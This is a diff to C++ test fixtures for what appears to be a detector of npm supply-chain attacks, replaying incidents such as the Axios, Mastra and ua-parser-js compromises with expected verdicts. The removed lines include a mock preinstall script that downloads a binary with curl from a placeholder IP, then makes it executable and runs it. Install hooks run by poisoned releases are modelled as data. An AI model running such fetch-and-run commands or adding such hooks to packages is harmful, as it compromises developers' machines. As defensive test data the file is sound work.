@@ -4,26 +4,10 @@
 
 #include <algorithm>
 
+#include "trust/shapes.h"
+
 namespace replay {
 namespace {
-
-constexpr std::string_view kCode = "'use strict';\nmodule.exports = (value) => value;\n";
-constexpr std::string_view kInert = "throw new Error('inert sample');\n";
-
-/// What an obfuscator leaves: machine-made names on one long line, and nothing that could run.
-std::string Obfuscated() {
-  std::string text(kInert.substr(0, kInert.size() - 1));
-  for (int i = 0; i < 120; ++i) text += fmt::format("var _0x{:04x}=['{:08x}'];", 0x1a2b + i, i);
-  return text + "\n";
-}
-
-std::string ReadmeOf(std::string_view name) {
-  return fmt::format(
-      "# {0}\n\n{0} is a small library for dates and times that parses, validates, manipulates and "
-      "displays them for modern browsers with a largely compatible interface. If you use another "
-      "library today you already know how to use {0} in your application.\n",
-      name);
-}
 
 /// `count` releases of one line, a week apart, ending before `last` (a date), all by one hand.
 std::vector<Release> History(const Release& like, std::string_view line, int count,
@@ -82,7 +66,7 @@ Incident Mastra() {
   bait = Next(bait, "1.11.21", "2026-06-16T07:05:42Z");
   Release armed = Next(bait, "1.11.22", "2026-06-17T01:01:33Z");
   armed.scripts = {{"postinstall", "node --no-warnings setup.cjs"}};
-  armed.files.emplace_back("setup.cjs", Obfuscated());
+  armed.files.emplace_back("setup.cjs", Dropper());
 
   struct Carrier {
     const char* name;
@@ -115,12 +99,23 @@ Incident Mastra() {
       {"2026-06-16T07:06:00Z", "easy-day-js@1.11.21", "warn", "identity-clone",
        "a copy of dayjs appears under another name: the bait, without any script"},
       {"2026-06-17T01:01:33Z", "easy-day-js@1.11.22", "block", "armed-young-package",
-       "eighteen hours later its second version runs an obfuscated file when it is installed"},
-      {"2026-06-17T01:12:00Z", "@mastra/schema-compat@1.2.12", "block", "phantom-young-dependency",
+       "eighteen hours later its second version runs an obfuscated file when it is installed",
+       "easy-day-js@1.11.21"},
+      {"2026-06-17T01:12:00Z",
+       "@mastra/schema-compat@1.2.12",
+       "block",
+       "phantom-young-dependency",
        "the first Mastra package is republished by hand with one new dependency; the maintainers "
-       "will know in two and a half hours"},
-      {"2026-06-17T01:15:13Z", "@mastra/core@1.42.1", "block", "phantom-young-dependency",
-       "three minutes later the core package follows"},
+       "will know in two and a half hours",
+       "@mastra/schema-compat@1.2.11",
+       {"easy-day-js@1.11.22"}},
+      {"2026-06-17T01:15:13Z",
+       "@mastra/core@1.42.1",
+       "block",
+       "phantom-young-dependency",
+       "three minutes later the core package follows",
+       "@mastra/core@1.42.0",
+       {"easy-day-js@1.11.22"}},
       {"2026-06-17T01:15:13Z", "@mastra/core@1.42.0", "allow", "",
        "the release before it stays what it was"}};
   return incident;
@@ -147,7 +142,7 @@ Incident Axios() {
   bait = Next(bait, "4.2.0", "2026-03-30T05:57:00Z");
   Release armed = Next(bait, "4.2.1", "2026-03-30T23:59:00Z");
   armed.scripts = {{"postinstall", "node setup.js"}};
-  armed.files.emplace_back("setup.js", Obfuscated());
+  armed.files.emplace_back("setup.js", Dropper());
   for (const auto& [version, time] :
        {std::pair{"1.14.1", "2026-03-31T00:21:00Z"}, std::pair{"0.30.4", "2026-03-31T01:00:00Z"}}) {
     Release poisoned = Next(like, version, time);
@@ -161,11 +156,21 @@ Incident Axios() {
   incident.releases.push_back(std::move(armed));
   incident.moments = {
       {"2026-03-30T23:59:00Z", "plain-crypto-js@4.2.1", "block", "armed-young-package",
-       "the copy of crypto-js is armed eighteen hours after its bait"},
-      {"2026-03-31T00:21:00Z", "axios@1.14.1", "block", "phantom-young-dependency",
-       "axios is published by hand, without its proof of origin, with one new dependency"},
-      {"2026-03-31T01:00:00Z", "axios@0.30.4", "block", "phantom-young-dependency",
-       "the old line follows thirty-nine minutes later"}};
+       "the copy of crypto-js is armed eighteen hours after its bait", "plain-crypto-js@4.2.0"},
+      {"2026-03-31T00:21:00Z",
+       "axios@1.14.1",
+       "block",
+       "phantom-young-dependency",
+       "axios is published by hand, without its proof of origin, with one new dependency",
+       "axios@1.14.0",
+       {"plain-crypto-js@4.2.1"}},
+      {"2026-03-31T01:00:00Z",
+       "axios@0.30.4",
+       "block",
+       "phantom-young-dependency",
+       "the old line follows thirty-nine minutes later",
+       "axios@0.30.3",
+       {"plain-crypto-js@4.2.1"}}};
   return incident;
 }
 
@@ -179,7 +184,8 @@ Incident Keyv() {
   incident.releases.push_back(std::move(poisoned));
   incident.moments = {{"2026-08-04T10:00:00Z", "keyv@5.5.4", "block", "hook-with-hidden-target",
                        "the project's own workflow builds the poisoned release: its provenance is "
-                       "valid"}};
+                       "valid",
+                       "keyv@5.5.3"}};
   return incident;
 }
 
@@ -194,7 +200,8 @@ Incident TanStack() {
   incident.releases.push_back(std::move(poisoned));
   incident.moments = {{"2026-05-11T19:20:00Z", "@tanstack/react-router@1.132.6", "block",
                        "off-registry-addition",
-                       "an optional dependency on a commit nobody reviewed; provenance is valid"}};
+                       "an optional dependency on a commit nobody reviewed; provenance is valid",
+                       "@tanstack/react-router@1.132.5"}};
   return incident;
 }
 
@@ -210,7 +217,8 @@ Incident PhantomGyp() {
 )gyp");
   incident.releases.push_back(std::move(poisoned));
   incident.moments = {{"2026-06-03T08:00:00Z", "tiny-tool@2.0.5", "block", "hook-through-gyp",
-                       "a small file makes npm run a command although no script says so"}};
+                       "a small file makes npm run a command although no script says so",
+                       "tiny-tool@2.0.4"}};
   return incident;
 }
 
@@ -223,7 +231,8 @@ Incident ChalkDebug() {
   poisoned.files.back().second = Obfuscated() + std::string(kCode);
   incident.releases.push_back(std::move(poisoned));
   incident.moments = {{"2025-09-08T13:16:00Z", "debug@4.4.2", "block", "obfuscation-gained",
-                       "same account, no script, no dependency: only the code shows it"}};
+                       "same account, no script, no dependency: only the code shows it",
+                       "debug@4.4.1"}};
   return incident;
 }
 
@@ -241,19 +250,19 @@ Incident UaParser() {
         Poisoned{"1.0.0", "2021-10-22T12:16:16Z"}}) {
     Release poisoned = Next(like, each.version, each.time);
     poisoned.scripts = {{"preinstall", "start /B node preinstall.js & node preinstall.js"}};
-    poisoned.files.emplace_back("preinstall.js", std::string(kInert));
-    poisoned.files.emplace_back("preinstall.sh",
-                                "exit 1\ncurl http://192.0.2.17/jsextension -o jsextension\n"
-                                "chmod +x jsextension\n./jsextension -k\n");
+    poisoned.files.emplace_back("preinstall.js", MinerStarter());
+    poisoned.files.emplace_back("preinstall.sh", MinerScript());
     incident.releases.push_back(std::move(poisoned));
   }
   incident.moments = {
-      {"2021-10-22T12:15:21Z", "ua-parser-js@0.7.29", "warn", "script-gained",
-       "after twenty-nine releases of the line one runs a script in the background"},
+      {"2021-10-22T12:15:21Z", "ua-parser-js@0.7.29", "block", "install-download-run",
+       "after twenty-nine releases of the line one runs a script that fetches a program and starts "
+       "it in the background",
+       "ua-parser-js@0.7.28"},
       {"2021-10-22T12:16:03Z", "ua-parser-js@0.8.0", "block", "hook-in-several-lines",
-       "forty-two seconds later a second line gains the same script"},
+       "forty-two seconds later a second line gains the same script", "ua-parser-js@0.7.28"},
       {"2021-10-22T12:16:16Z", "ua-parser-js@0.7.29", "block", "hook-in-several-lines",
-       "and with that the first one is settled too"}};
+       "and with that the first one is settled too", "ua-parser-js@0.7.28"}};
   return incident;
 }
 
@@ -276,11 +285,20 @@ Incident EventStream() {
   incident.releases.push_back(Next(bait, "0.1.0", "2018-09-05T06:00:00Z"));
   incident.releases.push_back(std::move(handed_over));
   incident.releases.push_back(std::move(poisoned));
-  incident.moments = {
-      {"2018-09-05T02:42:00Z", "event-stream@3.3.5", "allow", "publisher-changed",
-       "a new maintainer publishes a first, harmless release"},
-      {"2018-09-09T08:00:00Z", "event-stream@3.3.6", "block", "phantom-young-dependency",
-       "four days later the new hand adds a package of four days"}};
+  incident.moments = {{"2018-09-05T02:42:00Z",
+                       "event-stream@3.3.5",
+                       "allow",
+                       "publisher-changed",
+                       "a new maintainer publishes a first, harmless release",
+                       "event-stream@3.3.4",
+                       {"map-stream@0.1.0"}},
+                      {"2018-09-09T08:00:00Z",
+                       "event-stream@3.3.6",
+                       "block",
+                       "phantom-young-dependency",
+                       "four days later the new hand adds a package of four days",
+                       "event-stream@3.3.5",
+                       {"map-stream@0.1.0", "flatmap-stream@0.1.0"}}};
   return incident;
 }
 
@@ -298,10 +316,20 @@ Incident CleanTwin() {
       "'use strict';\nconst equal = require('fast-equal');\nmodule.exports = (a, b) => equal(a, "
       "b);\n";
   incident.releases.push_back(std::move(release));
-  incident.moments = {
-      {"2026-06-17T01:12:00Z", "@mastra/schema-compat@1.2.12", "allow", "",
-       "the same package, the same minute, a dependency of four years that it uses"},
-      {"2026-06-19T01:12:00Z", "@mastra/schema-compat@1.2.12", "allow", "", "and two days later"}};
+  incident.moments = {{"2026-06-17T01:12:00Z",
+                       "@mastra/schema-compat@1.2.12",
+                       "allow",
+                       "",
+                       "the same package, the same minute, a dependency of four years that it uses",
+                       "@mastra/schema-compat@1.2.11",
+                       {"fast-equal@3.1.3"}},
+                      {"2026-06-19T01:12:00Z",
+                       "@mastra/schema-compat@1.2.12",
+                       "allow",
+                       "",
+                       "and two days later",
+                       "@mastra/schema-compat@1.2.11",
+                       {"fast-equal@3.1.3"}}};
   return incident;
 }
 
